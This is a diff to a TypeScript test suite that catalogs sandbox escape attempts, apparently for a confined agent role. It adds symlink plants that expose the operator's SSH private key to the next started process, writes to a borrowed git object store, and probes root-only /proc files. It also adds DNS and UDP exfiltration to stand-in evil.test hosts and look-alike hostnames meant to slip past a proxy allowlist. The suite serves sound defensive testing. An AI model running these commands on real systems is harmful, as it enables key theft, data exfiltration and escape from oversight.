@@ -9,6 +9,8 @@ export interface Attempt {
    * which it would.
    */
   needs?: string;
+  /** Of what is only meant for the next start: what its role may write to and read besides, and what is tried then. */
+  later?: { write: string; read?: string; script: (machine: Machine) => string };
   /** Where it got out, it would have changed the machine itself, not only what is put there for it. */
   harms?: true;
 }
@@ -25,6 +27,11 @@ const call = (name: string, text: string, needs?: string): Attempt => ({
   script: () => perl(`my $b = "x" x 256; my $r = ${text}; print "ESCAPED\\n" if defined $r && $r >= 0;`),
   ...(needs !== undefined && { needs }),
 });
+
+const ROOTS_OWN = [
+  ...['slabinfo', 'kpagecount', 'kpageflags', 'kpagecgroup', 'timer_list', 'vmallocinfo'],
+  ...['pagetypeinfo', 'kcore', 'sched_debug'],
+];
 
 const writes: Attempt[] = [
   { name: 'overwrites a file of the operator', script: ({ precious }) => `echo gone > '${precious}'` },
@@ -77,6 +84,16 @@ const writes: Attempt[] = [
     script: ({ repository }) => `echo x > '${repository}/.git/objects/info/planted' && echo ESCAPED`,
   },
   {
+    name: 'leaves an object in the store it borrows',
+    script: ({ repository }) =>
+      `echo planted | GIT_OBJECT_DIRECTORY='${repository}/.git/objects' git hash-object -w --stdin && echo ESCAPED`,
+  },
+  {
+    name: 'leaves a pack in the store it borrows',
+    script: ({ repository }) =>
+      `git rev-parse HEAD | git pack-objects '${repository}/.git/objects/pack/pack' && echo ESCAPED`,
+  },
+  {
     name: 'deletes the objects it borrows',
     script: ({ repository }) => `find '${repository}/.git/objects' -type f -delete`,
   },
@@ -86,7 +103,7 @@ const writes: Attempt[] = [
   },
   {
     name: 'plants a tool in the PATH',
-    script: ({ operator }) => `echo x > '${operator}/tools/bin/git' && echo ESCAPED`,
+    script: ({ operator }) => `echo x > '${operator}/tools/v1/bin/git' && echo ESCAPED`,
   },
   {
     name: 'plants settings for its critic',
@@ -114,6 +131,18 @@ const writes: Attempt[] = [
     name: 'catches core dumps of the host',
     script: () => 'cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern && echo ESCAPED',
     harms: true,
+    needs: 'root',
+  },
+  {
+    name: 'may change the machine by /proc',
+    script: () =>
+      'for f in /proc/mtrr /proc/sysrq-trigger /proc/pressure/* /proc/acpi/* /proc/scsi/* /proc/irq/*; do [ -f "$f" ] && [ -w "$f" ] && echo ESCAPED; done; :',
+    needs: 'root, or a kernel that measures pressure',
+  },
+  {
+    name: 'reads what the kernel shows to root',
+    script: () =>
+      `for f in ${ROOTS_OWN.map((name) => `/proc/${name}`).join(' ')}; do [ "$(head -c 64 $f 2>/dev/null | wc -c)" -gt 0 ] && echo ESCAPED; done; :`,
     needs: 'root',
   },
   {
@@ -168,6 +197,34 @@ const links: Attempt[] = [
   },
 ];
 
+const KEY = '.ssh/id_ed25519';
+const readKey = ({ operator }: Machine): string => `cat '${operator}/${KEY}'`;
+
+/** Where the role may write, so that what it may not read is shown to whoever is started next. */
+const plants: Attempt[] = [
+  {
+    name: 'leaves a link in a folder of PATH',
+    script: ({ operator }) => `ln -s '${operator}/${KEY}' '${operator}/tools/v1/bin/x'`,
+    later: { write: 'tools/v1/bin', script: readKey },
+  },
+  {
+    name: 'makes a folder of PATH anew',
+    script: ({ operator }) =>
+      `cd '${operator}/tools' && mv v1 v0 && mkdir -p v1/bin && ln -s '${operator}/${KEY}' v1/bin/x`,
+    later: { write: 'tools', script: readKey },
+  },
+  {
+    name: 'makes a folder of PATH a link',
+    script: ({ operator }) => `cd '${operator}/tools' && mv v1 v0 && mkdir v1 && ln -s ../../.ssh v1/bin`,
+    later: { write: 'tools', script: ({ operator }) => `cat '${operator}/tools/v1/bin/id_ed25519'` },
+  },
+  {
+    name: 'leads what is read in what it may write upwards',
+    script: ({ operator }) => `cd '${operator}/shared' && rm -r ref && ln -s .. ref`,
+    later: { write: 'shared', read: 'shared/ref', script: readKey },
+  },
+];
+
 const started = (tag: string): string => `until pgrep -fx '/bin/sleep ${tag}' >/dev/null; do :; done`;
 
 const processes: Attempt[] = [
@@ -207,6 +264,16 @@ const processes: Attempt[] = [
   {
     name: 'changes its own priority over others',
     script: ({ victim }) => `renice -n 19 -p ${victim.pid} && echo ESCAPED`,
+  },
+  {
+    name: 'goes before all others on the processor',
+    script: () => 'chrt -f 1 true && echo ESCAPED',
+    needs: 'root',
+  },
+  {
+    name: 'is spared when memory runs out',
+    script: () => 'echo -1000 >/proc/self/oom_score_adj && echo ESCAPED',
+    needs: 'root',
   },
   {
     name: 'takes a descriptor of another process',
@@ -348,18 +415,28 @@ const network: Attempt[] = [
       `node -e 'require("net").connect(${port}, "127.0.0.1").on("data", (d) => console.log(String(d))).on("error", () => {})'`,
   },
   {
+    name: 'sends data to a name server on loopback',
+    script: ({ names }) =>
+      `node -e 'const s = require("dgram").createSocket("udp4"); setTimeout(() => process.exit(), 3000); s.on("message", () => process.exit()).send("secret", ${names}, "127.0.0.1")'`,
+  },
+  {
+    name: 'sends data in a name to be resolved',
+    script: ({ names }) =>
+      `node -e 'const { Resolver } = require("dns").promises; const r = new Resolver({ timeout: 500, tries: 1 }); r.setServers(["127.0.0.1:${names}"]); r.resolve4("secret-in-hex.evil.test").catch(() => {})'`,
+  },
+  {
     name: 'reaches an abstract socket',
     script: ({ abstract }) =>
       `node -e 'require("net").connect("\\0${abstract}").on("data", (d) => console.log(String(d))).on("error", () => {})'`,
   },
 ];
 
-/** Asks the proxy that it is given; what is answered and not refused has got out. */
+/** Asks the proxy that it is given; what is not refused has got out, also where nobody answers. */
 const byProxy = (target: string, method = 'GET'): string =>
   `node -e '
     const at = new URL(process.env.http_proxy ?? "http://127.0.0.1:9");
     const asking = require("http").request({ host: at.hostname, port: at.port, method: "${method}", path: "${target}" });
-    const seen = (answer, socket) => { if (answer.statusCode < 400) console.log("ESCAPED"); (socket ?? answer).pipe(process.stdout); setTimeout(() => process.exit(), 300); };
+    const seen = (answer, socket) => { if (![400, 403].includes(answer.statusCode)) console.log("ESCAPED"); (socket ?? answer).pipe(process.stdout); setTimeout(() => process.exit(), 300); };
     asking.on("response", seen).on("connect", seen).on("error", () => {}).end();'`;
 
 /** Asks the provider, with whatever its address is. */
@@ -368,6 +445,14 @@ const byProvider = (path: string, body: object): string =>
 
 /** There is no gateway without a sandbox to make it the only way. */
 export const DOOR = 'a door';
+const LOOK_ALIKES: readonly (readonly [how: string, host: string])[] = [
+  ['a subdomain of a granted domain', 'secret-in-hex.granted.example'],
+  ['a domain that ends as a granted one', 'evilgranted.example'],
+  ['a domain that a granted one begins', 'granted.example-evil.test'],
+  ['a granted domain as somebody’s name', 'granted.example@evil.test'],
+  ['a granted domain before an escaped end', 'evil.test%00.granted.example'],
+  ['a granted domain in look-alike letters', 'xn--grnted-4nf.example'],
+];
 const GATEWAY: readonly Attempt[] = [
   {
     name: 'asks the proxy for loopback',
@@ -400,6 +485,11 @@ const GATEWAY: readonly Attempt[] = [
     script: () => byProxy('granted.example.evil.test:443', 'CONNECT'),
     needs: DOOR,
   },
+  ...LOOK_ALIKES.map(([how, host]) => ({
+    name: `sends data to ${how}`,
+    script: () => `${byProxy(`${host}:443`, 'CONNECT')}; ${byProxy(`http://${host}/`)}`,
+    needs: DOOR,
+  })),
   {
     name: 'sends data in the name of a host',
     script: () => byProxy('http://secret-in-hex.evil.test/'),
@@ -470,6 +560,7 @@ export const ATTEMPTS: readonly Attempt[] = [
   ...pushes,
   ...secrets,
   ...links,
+  ...plants,
   ...writes,
   ...processes,
   ...privileges,
